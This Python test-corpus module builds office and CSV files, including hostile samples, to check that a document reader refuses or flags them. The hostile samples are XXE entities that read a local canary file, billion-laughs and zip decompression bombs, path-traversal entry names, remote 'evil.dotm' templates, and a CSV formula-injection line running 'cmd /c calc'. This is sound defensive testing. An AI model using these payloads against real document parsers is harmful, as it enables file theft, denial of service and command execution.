"""Papers of Word, Excel, LibreOffice and the like."""

import shutil
from collections.abc import Iterator
from pathlib import Path

from tests.corpus.building import (
    LETTER,
    WORDS,
    compound,
    doc,
    docx,
    encrypted_office,
    ods,
    odt,
    opendocument,
    part_of,
    picture,
    rezipped,
    rtf,
    saved,
    xlsx,
    zipped,
)
from tests.corpus.expecting import READ, Sample, or_refused, refused
from tests.corpus.hostile_xml import CANARY, billion_laughs, one_large_entity, outside_entity
from tests.corpus.packing import bomb_entry, entries_of, zip_of

_WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
_WORD_MACROS = "application/vnd.ms-word.document.macroEnabled.12"
_SHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
_SHEET_MACROS = "application/vnd.ms-excel.sheet.macroEnabled.12"
_ODT, _ODS = "application/vnd.oasis.opendocument.text", "application/vnd.oasis.opendocument.spreadsheet"
_QUIET = ("active_content", "external_content", "repaired", "polyglot", "disguised", "entry_left_out")
_LETTER = READ.but(text=(WORDS,), mismatch=False)
_DOCX = _LETTER.but(mimes=(_WORD,))
_ODT_LETTER = _LETTER.but(mimes=(_ODT,))
_XLSX = _LETTER.but(mimes=(_SHEET,))
_RTF = _LETTER.but(mimes=("application/rtf",))
_ENTITIES = ("corrupt", "decompression_bomb")
_BOMB = refused("decompression_bomb", "too_large")
_BODY = b"<w:body>"
_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_PLACES = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"


def samples(canary: Path) -> Iterator[Sample]:
    """All of them."""
    yield from _word(canary)
    yield from _old_word()
    yield from _opendocument(canary)
    yield from _rich_text()
    yield from _spreadsheets(canary)
    yield from _tables()


def _with_body(xml: str, prolog: str = "") -> bytes:
    document = part_of(docx(), "word/document.xml").replace(_BODY, _BODY + xml.encode(), 1)
    if prolog:
        start = document.index(b"<w:document")
        document = document[:start] + prolog.encode() + document[start:]
    return rezipped(docx(), {"word/document.xml": document})


def _paragraph(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def _related(part: str, kind: str, target: str) -> bytes:
    """The document with an outside relation of this kind."""
    relation = f'<Relationship Id="x9" Type="{_PLACES}/{kind}" Target="{target}" TargetMode="External"/>'
    if part == "settings":
        rels = f'<?xml version="1.0"?><Relationships xmlns="{_PACKAGE}">{relation}</Relationships>'.encode()
        settings = part_of(docx(), "word/settings.xml")
        end = settings.index(b">", settings.index(b"<w:settings")) + 1
        attached = b'<w:attachedTemplate xmlns:r="%b" r:id="x9"/>' % _PLACES.encode()
        changes = {
            "word/settings.xml": settings[:end] + attached + settings[end:],
            "word/_rels/settings.xml.rels": rels,
        }
        return rezipped(docx(), changes)
    rels = part_of(docx(), "word/_rels/document.xml.rels")
    return rezipped(
        docx(),
        {"word/_rels/document.xml.rels": rels.replace(b"</Relationships>", relation.encode() + b"</Relationships>")},
    )


def _word(canary: Path) -> Iterator[Sample]:
    yield Sample("docx-letter.docx", docx(), _DOCX.but(never=_QUIET))
    yield Sample("docx-empty.docx", docx(" "), READ.but(mimes=(_WORD,)))
    scan = rezipped(docx(), {"word/media/scan.png": saved(picture().resize((1700, 510)), "PNG")})
    yield Sample("docx-with-scan.docx", scan, _DOCX.but(pages=2))
    broken = rezipped(docx(), {"word/media/scan.png": saved(picture().resize((1700, 510)), "PNG")[:9000]})
    yield Sample("docx-with-broken-scan.docx", broken, _DOCX.but(warnings=("picture_unreadable",)))
    macros = rezipped(docx(), {"word/vbaProject.bin": compound({"VBA": {"dir": bytes(100)}})})
    yield Sample("docx-macros.docx", macros, _LETTER.but(mismatch=None, warnings=("active_content",)))
    kinds = part_of(docx(), "[Content_Types].xml").replace(
        f"{_WORD}.main+xml".encode(), f"{_WORD_MACROS}.main+xml".encode()
    )
    enabled = rezipped(macros, {"[Content_Types].xml": kinds})
    for name in ("docx-macros-enabled.docm", "docx-macros-enabled-renamed.docx"):
        yield Sample(name, enabled, _LETTER.but(mismatch=None, warnings=("active_content",)))
    for part, kind, target in (
        ("settings", "attachedTemplate", "https://example.org/evil.dotm"),
        ("settings", "attachedTemplate", "file://///10.0.0.1/share/evil.dotm"),
        ("document", "image", "https://example.org/pixel.png"),
        ("document", "oleObject", "https://example.org/object.rtf"),
        ("document", "frame", "https://example.org/frame.html"),
    ):
        by = "share" if target.startswith("file") else "web"
        yield Sample(
            f"docx-{kind}-from-{by}.docx", _related(part, kind, target), _DOCX.but(warnings=("external_content",))
        )
    yield Sample(
        "docx-hyperlink.docx", _related("document", "hyperlink", "https://example.org/"), _DOCX.but(never=_QUIET)
    )

    leak = _paragraph("&leak;")
    for name, data in {
        "xxe": _with_body(leak, outside_entity("w:document", canary)),
        "xxe-by-parameter": _with_body("", outside_entity("w:document", canary, parameter=True)),
        "xxe-in-settings": rezipped(
            docx(),
            {
                "word/settings.xml": (
                    f'<?xml version="1.0"?>{outside_entity("w:settings", canary)}'
                    f'<w:settings xmlns:w="{_W}">&leak;</w:settings>'
                ).encode()
            },
        ),
        "xxe-in-relations": rezipped(
            docx(),
            {
                "word/_rels/document.xml.rels": (
                    f'<?xml version="1.0"?>{outside_entity("Relationships", canary)}'
                    f'<Relationships xmlns="{_PACKAGE}">&leak;</Relationships>'
                ).encode()
            },
        ),
        "xxe-in-utf-16": _in_utf16(_with_body(leak, outside_entity("w:document", canary))),
        "entity-bomb": _with_body(_paragraph("&lol9;"), billion_laughs("w:document")),
        "entity-large": _with_body(_paragraph("&big;" * 5000), one_large_entity("w:document")),
    }.items():
        yield Sample(f"docx-{name}.docx", data, refused(*_ENTITIES, mimes=(_WORD,), hidden=(CANARY,)))
    xinclude = _with_body(
        f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{canary.as_uri()}" parse="text"/>'
    )
    yield Sample("docx-xinclude.docx", xinclude, _DOCX.but(hidden=(CANARY,)))

    entry = bomb_entry("word/document.xml", 1000)
    yield Sample("docx-bomb.docx", zip_of(entry), _BOMB)
    yield Sample(
        "docx-bomb-of-lying-size.docx",
        zip_of(entry, claimed=100),
        refused("decompression_bomb", "too_large", "corrupt"),
    )
    media = zip_of(bomb_entry("word/media/a.png", 400), before=entries_of(docx()))
    yield Sample("docx-bomb-in-media.docx", media, _BOMB)
    for depth in (200, 5_000, 200_000):
        deep = "<w:sdt><w:sdtContent>" * depth + _paragraph("deep") + "</w:sdtContent></w:sdt>" * depth
        yield Sample(f"docx-controls-{depth}-deep.docx", _with_body(deep), or_refused(_DOCX, "corrupt"))
    yield Sample("docx-200000-paragraphs.docx", _with_body(_paragraph("a") * 200_000), or_refused(_DOCX, "too_large"))
    missing = {"word/document.xml": part_of(docx(), "word/document.xml")}
    yield Sample("docx-only-its-body.docx", zipped(missing), or_refused(_DOCX, "corrupt"))
    yield Sample("docx-not-xml.docx", rezipped(docx(), {"word/document.xml": b"\0\1\2"}), refused("corrupt"))
    yield Sample(
        "docx-path-names.docx",
        rezipped(docx(), {"../../corpus-escaped.txt": b"x", "/tmp/corpus-escaped.txt": b"x"}),  # noqa: S108
        _DOCX,
    )
    yield Sample("docx-encrypted.docx", encrypted_office(), refused("encrypted"))
    yield Sample(
        "docx-20000-entries.docx",
        rezipped(docx(), {f"customXml/{i}.xml": b"<a/>" for i in range(20_000)}),
        or_refused(_DOCX, "too_large", "decompression_bomb"),
    )


def _in_utf16(data: bytes) -> bytes:
    """A plain search for a declaration misses it."""
    text = part_of(data, "word/document.xml").decode()
    head, _, rest = text.partition("?>")
    return rezipped(data, {"word/document.xml": (head.replace("UTF-8", "UTF-16") + "?>" + rest).encode("utf-16")})


def _old_word() -> Iterator[Sample]:
    with_office = shutil.which("soffice") or shutil.which("libreoffice")
    plain = or_refused(_LETTER, "corrupt") if with_office else refused("unsupported_type", mismatch=False)
    yield Sample("doc-letter.doc", doc(), plain.but(mimes=("application/msword",)))
    yield Sample("doc-encrypted.doc", doc(encrypted=True), refused("encrypted", mimes=("application/msword",)))
    yield Sample("doc-macros.doc", doc(macros=True), plain.but(one_of=("active_content",)))
    yield Sample("ole-of-nothing.doc", compound({"Nothing": b"x" * 100}), refused("unsupported_type", "corrupt"))
    yield Sample("xls-encrypted.xlsx", encrypted_office(), refused("encrypted"))
    header = doc()
    looped = bytearray(header)
    looped[0x4C:0x50] = b"\0\0\0\0"  # its table of sectors lies in the first sector, which is text
    yield Sample(
        "ole-table-misplaced.doc",
        bytes(looped),
        plain.but(outcomes=("read", "refused"), reasons=("corrupt", "unsupported_type"), text=()),
    )


def _opendocument(canary: Path) -> Iterator[Sample]:
    yield Sample("odt-letter.odt", odt(), _ODT_LETTER.but(never=_QUIET))
    yield Sample("odt-empty.odt", odt(" "), READ.but(mimes=(_ODT,)))
    lines = "".join(f"<text:p>{line}</text:p>" for line in LETTER)
    macros = {
        "Basic/script-lc.xml": b"<?xml version='1.0'?><library/>",
        "Basic/Standard/Module1.xml": b"<module>Sub Main</module>",
    }
    yield Sample("odt-macros.odt", opendocument(lines, more=macros), _ODT_LETTER.but(warnings=("active_content",)))
    scripts = {"Scripts/python/evil.py": b"import os"}
    yield Sample("odt-python.odt", opendocument(lines, more=scripts), _ODT_LETTER.but(warnings=("active_content",)))
    remote = '<draw:frame><draw:image xlink:href="https://example.org/pixel.png"/></draw:frame>'
    yield Sample(
        "odt-remote-picture.odt", opendocument(lines + remote), _ODT_LETTER.but(warnings=("external_content",))
    )
    link = '<text:p><text:a xlink:href="https://example.org/">us</text:a></text:p>'
    yield Sample("odt-hyperlink.odt", opendocument(lines + link), _ODT_LETTER.but(never=_QUIET))
    root = "office:document-content"
    refusal = refused(*_ENTITIES, hidden=(CANARY,))
    for name, body, prolog in (
        ("xxe", "<text:p>&leak;</text:p>", outside_entity(root, canary)),
        ("xxe-by-parameter", lines, outside_entity(root, canary, parameter=True)),
        ("entity-bomb", "<text:p>&lol9;</text:p>", billion_laughs(root)),
        ("entity-large", "<text:p>" + "&big;" * 5000 + "</text:p>", one_large_entity(root)),
    ):
        yield Sample(f"odt-{name}.odt", opendocument(body, prolog=prolog), refusal)
    for depth in (200, 5_000, 200_000):
        deep = "<text:section>" * depth + "<text:p>deep</text:p>" + "</text:section>" * depth
        yield Sample(f"odt-sections-{depth}-deep.odt", opendocument(lines + deep), or_refused(_ODT_LETTER, "corrupt"))
    spaces = opendocument(lines + '<text:p>a<text:s text:c="2000000000"/>b</text:p>')
    yield Sample(
        "odt-two-billion-spaces.odt", spaces, or_refused(_ODT_LETTER, "corrupt", "too_large", "decompression_bomb")
    )
    mime = (("mimetype", _ODT.encode()),)
    yield Sample("odt-bomb.odt", zip_of(bomb_entry("content.xml", 1000), before=mime), _BOMB)
    sealed = (
        b'<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><manifest:file-entry '
        b'manifest:full-path="content.xml" manifest:media-type="text/xml" manifest:size="900">'
        b"<manifest:encryption-data>"
        b'<manifest:algorithm manifest:algorithm-name="http://www.w3.org/2001/04/xmlenc#aes256-cbc"/>'
        b"</manifest:encryption-data></manifest:file-entry></manifest:manifest>"
    )
    more = {"META-INF/manifest.xml": sealed, "content.xml": bytes(range(256)) * 4}
    yield Sample("odt-encrypted.odt", opendocument("", more=more), refused("encrypted", mimes=(_ODT,)))
    yield Sample("ods-encrypted.ods", opendocument("", "spreadsheet", more=more), refused("encrypted", mimes=(_ODS,)))
    yield Sample("odt-not-xml.odt", opendocument("", more={"content.xml": b"<office"}), refused("corrupt"))
    yield Sample("odt-path-names.odt", opendocument(lines, more={"../../corpus-escaped.txt": b"x"}), _ODT_LETTER)
    yield Sample("odt-only-its-type.odt", zipped({"mimetype": _ODT.encode()}, stored=True), refused("corrupt"))


def _rich_text() -> Iterator[Sample]:
    yield Sample("rtf-letter.rtf", rtf(), _RTF.but(never=_QUIET))
    yield Sample(
        "rtf-unicode.rtf",
        rtf("Demande re\\'e7ue", "Stra\\u223?e", *LETTER),
        _RTF.but(text=("Demande reçue", "Straße", WORDS)),
    )
    for depth in (100, 5_000, 500_000):
        yield Sample(
            f"rtf-groups-{depth}-deep.rtf", rtf(*LETTER, extra="{" * depth + "}" * depth), or_refused(_RTF, "corrupt")
        )
    yield Sample("rtf-never-closed.rtf", rtf()[:-1] + b"{" * 10_000, or_refused(_RTF, "corrupt"))
    packed = "{\\object\\objemb{\\*\\objclass Package}{\\*\\objdata " + "0105000002000000" * 100 + "}}"
    yield Sample("rtf-object.rtf", rtf(extra=packed), _RTF.but(warnings=("active_content",)))
    yield Sample(
        "rtf-remote-template.rtf",
        rtf(extra="{\\*\\template https://example.org/evil.dotm}"),
        _RTF.but(warnings=("external_content",)),
    )
    field = '{\\field{\\*\\fldinst INCLUDEPICTURE "https://example.org/pixel.png"}{\\fldrslt}}'
    yield Sample("rtf-remote-picture.rtf", rtf(extra=field), _RTF.but(warnings=("external_content",)))
    yield Sample(
        "rtf-binary-of-lying-length.rtf",
        rtf(extra="{\\pict\\bin2000000000 abc}"),
        or_refused(_RTF.but(text=()), "corrupt"),
    )
    yield Sample(
        "rtf-huge-numbers.rtf", rtf(extra="\\u99999999999999999999?\\fs" + "9" * 5000), or_refused(_RTF, "corrupt")
    )
    yield Sample(
        "rtf-one-long-word.rtf", rtf(extra="\\" + "a" * 3_000_000 + " "), or_refused(_RTF, "corrupt", "too_large")
    )
    yield Sample("rtf-only-its-start.rtf", b"{\\rtf1", or_refused(READ, "corrupt", "empty"))
    pixels = "{\\pict\\pngblip " + "89504e47" * 500_000 + "}"
    yield Sample("rtf-large-picture.rtf", rtf(extra=pixels), or_refused(_RTF, "too_large"))


def _spreadsheets(canary: Path) -> Iterator[Sample]:
    yield Sample("xlsx-table.xlsx", xlsx(), _XLSX.but(never=_QUIET))
    cells = '<row r="1"><c r="A1" t="s"><v>0</v></c></row>'
    yield Sample("xlsx-shared.xlsx", xlsx(cells, shared=f"<si><t>{LETTER[0]}</t></si>"), _XLSX)
    formula = '<row r="1"><c r="A1" t="str"><f>HYPERLINK("x")</f><v>explanation</v></c></row>'
    yield Sample("xlsx-formula.xlsx", xlsx(formula), _XLSX)
    macros = {"xl/vbaProject.bin": compound({"VBA": {"dir": bytes(100)}})}
    yield Sample("xlsx-macros.xlsx", xlsx(more=macros), _LETTER.but(mismatch=None, warnings=("active_content",)))
    yield Sample("xlsx-macros.xlsm", xlsx(more=macros), _LETTER.but(mismatch=None, warnings=("active_content",)))
    outside = (
        f'<?xml version="1.0"?><Relationships xmlns="{_PACKAGE}"><Relationship Id="r1" '
        f'Type="{_PLACES}/externalLinkPath" '
        'Target="https://example.org/other.xlsx" TargetMode="External"/></Relationships>'
    ).encode()
    links = {
        "xl/externalLinks/externalLink1.xml": b"<externalLink/>",
        "xl/externalLinks/_rels/externalLink1.xml.rels": outside,
    }
    yield Sample("xlsx-outside-workbook.xlsx", xlsx(more=links), _XLSX.but(warnings=("external_content",)))
    refusal = or_refused(_XLSX.but(text=(), hidden=(CANARY,)), *_ENTITIES)
    for name, prolog, shared in (
        ("xxe", outside_entity("sst", canary), "<si><t>&leak;</t></si>"),
        ("xxe-by-parameter", outside_entity("sst", canary, parameter=True), "<si><t>a</t></si>"),
        ("entity-bomb", billion_laughs("sst"), "<si><t>&lol9;</t></si>"),
        ("entity-large", one_large_entity("sst"), "<si><t>" + "&big;" * 5000 + "</t></si>"),
    ):
        yield Sample(f"xlsx-{name}.xlsx", xlsx(cells, prolog=prolog, shared=shared), refusal)
    far = (
        '<row r="1"><c r="A1" t="inlineStr"><is><t>explanation</t></is></c></row>'
        '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    )
    yield Sample(
        "xlsx-cells-far-apart.xlsx", xlsx(far), or_refused(_XLSX, "too_large", "decompression_bomb", "corrupt")
    )
    beyond = '<row r="1"><c r="ZZZZZZ99999999999"><v>1</v></c></row>'
    yield Sample("xlsx-cell-beyond.xlsx", xlsx(beyond), or_refused(READ, "corrupt", "too_large"))
    yield Sample("xlsx-lying-index.xlsx", xlsx(cells.replace("<v>0<", "<v>4000000000<")), or_refused(READ, "corrupt"))
    yield Sample("xlsx-bomb.xlsx", _workbook_with_bomb("xl/worksheets/sheet1.xml"), _BOMB)
    rows = "".join(f'<row r="{i}"><c r="A{i}"><v>{i}</v></c></row>' for i in range(1, 200_001))
    yield Sample("xlsx-200000-rows.xlsx", xlsx(rows), or_refused(READ, "too_large", "too_many_pages"))
    yield Sample("xlsx-not-xml.xlsx", xlsx(more={"xl/workbook.xml": b"\0\1"}), refused("corrupt"))
    yield Sample("ods-table.ods", ods((LETTER[0], "1"), (LETTER[1], "2")), _LETTER.but(mimes=(_ODS,), never=_QUIET))
    repeated = (
        '<table:table table:name="a"><table:table-row table:number-rows-repeated="1048576"><table:table-cell '
        'table:number-columns-repeated="16384"><text:p>explanation</text:p></table:table-cell></table:table-row></table:table>'
    )
    bounded = or_refused(_LETTER, "too_large", "decompression_bomb", "corrupt")
    yield Sample("ods-repeated-without-end.ods", opendocument(repeated, "spreadsheet"), bounded)
    empty = repeated.replace("<text:p>explanation</text:p>", "")
    yield Sample("ods-empty-repeated.ods", opendocument(empty, "spreadsheet"), bounded.but(text=()))
    for name, body, prolog in (
        ("xxe", "&leak;", outside_entity("office:document-content", canary)),
        ("entity-bomb", "&lol9;", billion_laughs("office:document-content")),
    ):
        table = (
            '<table:table table:name="a"><table:table-row><table:table-cell>'
            f"<text:p>{body}</text:p></table:table-cell></table:table-row></table:table>"
        )
        yield Sample(
            f"ods-{name}.ods", opendocument(table, "spreadsheet", prolog=prolog), refused(*_ENTITIES, hidden=(CANARY,))
        )


def _workbook_with_bomb(name: str) -> bytes:
    """A workbook, one of whose parts swells to a gigabyte."""
    return zip_of(bomb_entry(name, 1000), before=tuple(item for item in entries_of(xlsx()) if item[0] != name))


def _tables() -> Iterator[Sample]:
    plain = READ.but(mimes=("text/csv", "text/plain"), mismatch=False)
    rows = "name;city;why\r\nTremblay;Québec;explanation\r\nRoy;Montréal;reçu\r\n"
    for encoding in ("utf-8", "utf-8-sig", "cp1252", "utf-16"):
        yield Sample(f"csv-{encoding}.csv", rows.encode(encoding), plain.but(text=("Tremblay", "Québec", WORDS)))
    yield Sample("csv-commas.csv", rows.replace(";", ",").encode(), plain.but(text=("Tremblay",)))
    yield Sample("csv-formulas.csv", b"a,b\r\n=cmd|'/c calc'!A1,@SUM(1)\r\n" * 5, plain)
    yield Sample("csv-quote-never-closed.csv", b'a,b\r\n"' + b"c,d\r\n" * 50_000, plain)
    yield Sample("csv-one-field-of-2-mb.csv", b"a," + b"b" * 2_000_000 + b"\n", plain.but(mimes=()))
    yield Sample("csv-10000-columns.csv", (b"a," * 10_000 + b"\n") * 20, plain)
